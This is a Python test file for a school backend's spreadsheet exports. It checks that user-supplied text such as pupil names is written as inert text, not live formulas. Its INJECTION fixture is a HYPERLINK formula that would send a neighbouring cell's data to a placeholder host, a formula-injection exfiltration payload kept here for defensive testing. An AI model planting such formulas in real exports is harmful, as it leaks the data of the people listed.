"""The one .xlsx writer: text from people is never a live formula (issue 12 item 6)."""

from __future__ import annotations

import io
from pathlib import Path

from openpyxl import load_workbook

from backend.common import xlsx
from tests import factories as f
from tests.courses.helpers import fcfs_world, select
from tests.fees.helpers import ADMIN, generate, issue_all, setup

INJECTION = '=HYPERLINK("http://x.example/?"&A2,"王小明")'
BACKEND = Path(__file__).resolve().parents[2] / "backend"


def _cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def _the_pupil(data: bytes):
    """The cell that holds the injected name: text, never a formula."""
    cells = [c for c in _cells(data) if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert len(cells) == 1, [c.value for c in cells]
    return cells[0]


def test_formula_starts_are_written_as_text():
    rows = [[INJECTION, "+A1", "-cmd", "@SUM(A1)", "\tx", "王小明", 12, "-12.50", "+3"]]
    data = xlsx.single_sheet("表", ["=A1"], rows).getvalue()
    assert all(c.data_type != "f" for c in _cells(data))
    header, values = load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True)
    assert header[0] == "'=A1"
    assert values[:5] == ("'" + INJECTION, "'+A1", "'-cmd", "'@SUM(A1)", "'\tx")
    # names and amounts (a signed number runs nothing) stay as written
    assert values[5:] == ("王小明", 12, "-12.50", "+3")


def test_the_statements_export_writes_a_formula_name_as_text(client, db):
    s = setup(db)
    s.kids[0].name = INJECTION
    db.flush()
    generate(client, s)
    issue_all(client, s)
    r = client.get(f"{ADMIN}/{s.sid}/statements/export?term_id={s.tid}", headers=s.office)
    assert r.status_code == 200
    cell = _the_pupil(r.data)
    assert cell.data_type == "s" and cell.value == "'" + INJECTION


def test_the_course_roster_export_writes_a_formula_name_as_text(client, db):
    x = fcfs_world(db)
    course = f.course(db, x.term, name="合唱")
    child, _, headers = x.families[0]
    child.name = INJECTION
    db.flush()
    assert select(client, headers, child, course).status_code in (200, 201)
    sid, tid = x.a["school"].id, x.term.id
    url = f"/admin/api/v1/schools/{sid}/terms/{tid}/courses/{course.id}/roster/export"
    r = client.get(url, headers=x.office)
    assert r.status_code == 200
    cell = _the_pupil(r.data)
    assert cell.data_type == "s" and cell.value == "'" + INJECTION


def test_no_module_writes_a_workbook_but_the_one_writer():
    """Every export goes through common.xlsx (the roster import's template is the import's)."""
    allowed = {BACKEND / "common" / "xlsx.py", BACKEND / "schools" / "roster_import.py"}
    writers = [
        p.relative_to(BACKEND).as_posix()
        for p in BACKEND.rglob("*.py")
        if p not in allowed and "Workbook(" in p.read_text(encoding="utf-8")
    ]
    assert writers == []
